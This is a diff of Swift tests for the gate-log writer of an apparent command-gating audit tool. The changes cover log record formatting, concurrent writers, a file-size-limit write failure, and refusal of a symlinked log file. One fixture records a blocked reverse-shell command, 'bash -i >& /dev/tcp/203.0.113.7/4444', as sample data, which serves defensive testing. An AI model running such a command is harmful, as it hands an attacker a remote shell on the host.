@@ -1,6 +1,7 @@
+import CordonPolicy
 import Glibc
 import Testing
-import CordonPolicy
+
 @testable import CordonAudit
 
 @Suite("gate.log writing")
@@ -23,7 +24,10 @@ struct GateLogTests {
         }
         #expect(keys == LogRecord.keys)
         #expect(text.hasPrefix("2026-11-18T"))  // 1_795_000_000_001 ms
-        #expect(text.contains(" decision=block score=92 level=safe agent=ci-agent session=s-1 run=r-1 action=a-1 source=gate pid=4242 rule=reverse-shell cmd=\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\" reasons=\"reverse shell via /dev/tcp; second\" chain="))
+        #expect(
+            text.contains(
+                " decision=block score=92 level=safe agent=ci-agent session=s-1 run=r-1 action=a-1 source=gate pid=4242 rule=reverse-shell cmd=\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\" reasons=\"reverse shell via /dev/tcp; second\" chain="
+            ))
         var back = try LogRecord.parse(Array(text.utf8).dropLast())
         #expect(back.chain.count == 16)
         back.chain = ""
@@ -114,7 +118,8 @@ struct GateLogTests {
         let dir = makeTempDir()
         defer { removeTree(dir) }
         let d = LogDirectory(path: dir)
-        let a = try GateLogWriter(directory: d), b = try GateLogWriter(directory: d)
+        let a = try GateLogWriter(directory: d)
+        let b = try GateLogWriter(directory: d)
         for i in 0..<10 {
             try a.append(sampleRecord(i))
             try b.append(sampleRecord(100 + i))
@@ -131,7 +136,9 @@ struct GateLogFailureTests {
         let dir = makeTempDir()
         defer { removeTree(dir) }
         writeText(dir + "/file", "x")
-        let e = try #require(throws: AuditError.self) { try GateLogWriter(directory: LogDirectory(path: dir + "/file/.cordon")) }
+        let e = try #require(throws: AuditError.self) {
+            try GateLogWriter(directory: LogDirectory(path: dir + "/file/.cordon"))
+        }
         #expect(e.kind == .write)
         #expect(e.message.contains(dir + "/file/.cordon"))
         #expect(e.message.contains("not a directory"))
@@ -147,16 +154,39 @@ struct GateLogFailureTests {
         #expect(e.message == "open \(dir)/gate.log: Is a directory")
     }
 
-    @Test("a full disk is an error naming the file, and no partial line is left")
+    @Test("a write the kernel refuses half-way is an error naming the file, and no partial line is left")
     func fullDisk() throws {
         let dir = makeTempDir()
         defer { removeTree(dir) }
-        // /dev/full answers every write with ENOSPC, as a full file system does.
-        symlink("/dev/full", dir + "/gate.log")
+        let w = try GateLogWriter(directory: LogDirectory(path: dir))
+        try w.append(sampleRecord(1))
+        let size = readText(dir + "/gate.log").utf8.count
+        // RLIMIT_FSIZE makes write(2) stop at the limit (short write, then EFBIG), as a full
+        // file system stops with ENOSPC; SIGXFSZ is ignored so the error comes back to cordon.
+        let limit = size + 600  // one ~420-byte line fits, the second is cut
+        let r = runProcess([
+            "/bin/sh", "-c", "trap '' XFSZ; exec prlimit --fsize=\(limit) \"$0\" \"$@\"", cordonBinary(), "log",
+            "append",
+            "--log-dir", dir, "--decision", "allow", "--cmd", String(repeating: "x", count: 200), "--repeat", "5",
+        ])
+        #expect(r.status == 125)
+        #expect(r.stderr.contains("cordon: error: append to \(dir)/gate.log: File too large"))
+        let report = try LogVerifier.verify(files: [dir + "/gate.log"])
+        #expect(report.ok, "the half-written line was taken back: \(String(describing: report.problem))")
+        #expect(report.lines == 2)
+    }
+
+    @Test("a symlinked gate.log is refused rather than followed")
+    func symlinkRefused() throws {
+        let dir = makeTempDir()
+        defer { removeTree(dir) }
+        writeText(dir + "/victim", "precious\n")
+        symlink(dir + "/victim", dir + "/gate.log")
         let w = try GateLogWriter(directory: LogDirectory(path: dir))
         let e = try #require(throws: AuditError.self) { try w.append(sampleRecord(1)) }
-        #expect(e.message == "append to \(dir)/gate.log: No space left on device")
-        #expect(e.kind == .write)
+        #expect(
+            e.message == "open \(dir)/gate.log: is a symbolic link (refused: the log is written only to regular files)")
+        #expect(readText(dir + "/victim") == "precious\n")
     }
 
     @Test("a lock held past the timeout is an error naming the lock file")
